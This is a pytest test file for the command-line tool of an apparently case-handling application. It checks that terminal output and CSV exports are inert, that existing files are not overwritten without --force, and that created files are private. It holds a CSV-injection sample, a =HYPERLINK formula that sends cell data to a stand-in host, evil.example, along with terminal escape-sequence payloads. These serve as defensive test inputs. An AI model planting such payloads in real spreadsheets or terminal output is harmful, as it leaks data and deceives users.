"""What the CLI prints and writes is inert, private, and never silently replaces a file (#9).

Before: a user name with Rich markup crashed after the change was committed, ANSI
codes reached the terminal, CSV output wrote ``=HYPERLINK(...)`` cells as they
came, ``--out`` overwrote whatever was there, and a run was recorded before a bad
``--out`` was noticed.
"""

from __future__ import annotations

import csv
import io
import stat
import sys
from pathlib import Path

import pytest
import sqlalchemy as sa

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "workflow"))

from casework_world import build_world

from acting import TEST_PASSWORD
from amnesty.cli import run
from amnesty.cli.output import csv_cell, inert, markup_inert
from amnesty.store.engine import get_engine
from amnesty.workflow.users import add_user

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_inert_escapes_what_a_terminal_would_obey() -> None:
    assert inert("a\x1b[2Jb") == "a\\x1b[2Jb"  # clear screen
    assert inert("one\ntwo") == "one\\x0atwo"  # a forged second line
    assert inert("one\ntwo", lines=True) == "one\ntwo"
    assert inert("abc\u202edcba") == "abc\\u202edcba"  # right-to-left override
    assert inert("\u2028") == "\\u2028"
    assert inert("리영호 Иванов") == "리영호 Иванов"  # scripts stay as they are
    assert markup_inert("odd[/]name[bold]") == "odd\\[/]name\\[bold]"


def test_csv_cells_that_start_a_formula_are_neutralised() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell("P01") == "P01" and csv_cell(-3) == -3 and csv_cell(None) is None


def _rows(url: str) -> int:
    with get_engine(url).connect() as conn:
        return int(conn.execute(sa.text("SELECT count(*) FROM runs")).scalar_one())


def test_user_list_is_inert_on_a_terminal_table_and_in_csv(
    duck_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    add_user(duck_url, "root", ["admin"], password=TEST_PASSWORD)
    add_user(duck_url, "odd[/]name", ["auditor"], actor="root", password=TEST_PASSWORD)
    add_user(duck_url, FORMULA, ["auditor"], actor="root", password=TEST_PASSWORD)
    capsys.readouterr()
    assert run(["user", "list", "--db", duck_url]) == 0
    assert "odd[/]name" in capsys.readouterr().out  # shown as typed, no crash
    assert run(["user", "list", "--db", duck_url, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert "'" + FORMULA in names and FORMULA not in names


@pytest.mark.slow
def test_an_error_quoting_input_stays_inert(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    world = build_world(duck_url)
    out = tmp_path / "no\x1b[2Jfolder" / "d.csv"
    before = _rows(duck_url)
    args = ["evaluate", str(world.decree_path), "--db", duck_url, "--as", "drafter"]
    assert run([*args, "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "no\\x1b[2Jfolder" in err
    assert "does not exist; create it first" in err
    assert _rows(duck_url) == before  # refused before any run was recorded


@pytest.mark.slow
def test_out_refuses_to_overwrite_without_force_and_writes_0600(
    duck_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    world = build_world(duck_url)
    # rev1 reads health data: the decree refers the seriously ill (docs/security.md)
    args = ["evaluate", str(world.decree_path), "--db", duck_url, "--as", "rev1"]
    for suffix in (".csv", ".jsonl", ".parquet"):
        out = tmp_path / f"determinations{suffix}"
        out.write_text("someone else's work", encoding="utf-8")
        out.chmod(0o644)
        before = _rows(duck_url)
        assert run([*args, "--out", str(out)]) == 1
        assert f"--out {out}: the file exists; give --force to replace it" in (
            capsys.readouterr().err
        )
        assert out.read_text(encoding="utf-8") == "someone else's work"
        assert _rows(duck_url) == before
        assert run([*args, "--out", str(out), "--force"]) == 0
        capsys.readouterr()
        assert out.stat().st_size > 0 and out.read_bytes() != b"someone else's work"
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
        fresh = tmp_path / f"fresh{suffix}"
        assert run([*args, "--out", str(fresh)]) == 0
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


@pytest.mark.slow
def test_what_the_cli_creates_is_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The database a command creates, a rejects file and certificates' folder: only their
    owner reads them (the CLI's umask), whatever module creates them."""
    folder = tmp_path / "new"
    folder.mkdir()
    database = folder / "amnesty.duckdb"
    monkeypatch.setattr("sys.stdin", io.StringIO(TEST_PASSWORD + "\n"))
    assert run(["user", "add", "root", "--role", "admin", "--password-stdin",
                "--db", str(database)]) == 0  # fmt: skip
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
    registry = tmp_path / "registry"
    assert run(["registry", "generate", "--profile", "kp-2015", "--persons", "30", "--seed", "1",
                "--dirty", "0.2", "--out", str(registry)]) == 0  # fmt: skip
    rejects = tmp_path / "rejects.csv"
    assert run(["registry", "import", str(registry), "--skip-invalid", "--rejects",
                str(rejects), "--db", str(database), "--as", "root"]) == 0  # fmt: skip
    capsys.readouterr()
    assert rejects.read_text(encoding="utf-8").count("\n") > 1  # the dirty rows, listed
    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
    for path in registry.rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) == (0o700 if path.is_dir() else 0o600), path


def test_registry_generate_refuses_a_folder_that_holds_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A second generate into a used folder would mix its tables with the first's
    (a stale fault list, another profile's tables): refused unless --force."""
    registry = tmp_path / "registry"
    args = ["registry", "generate", "--profile", "kp-2015", "--seed", "1", "--out", str(registry)]
    assert run([*args, "--persons", "20"]) == 0
    manifest = (registry / "manifest.json").read_bytes()
    capsys.readouterr()
    assert run([*args, "--persons", "25"]) == 1
    err = capsys.readouterr().err
    assert "folder is not empty" in err and "--force" in err
    assert (registry / "manifest.json").read_bytes() == manifest  # nothing written
    assert run([*args, "--persons", "25", "--force"]) == 0
    assert (registry / "manifest.json").read_bytes() != manifest
    a_file = tmp_path / "file"
    a_file.write_text("x", encoding="utf-8")
    assert run(["registry", "generate", "--persons", "5", "--out", str(a_file)]) == 1
    assert "is a file; give a folder" in capsys.readouterr().err
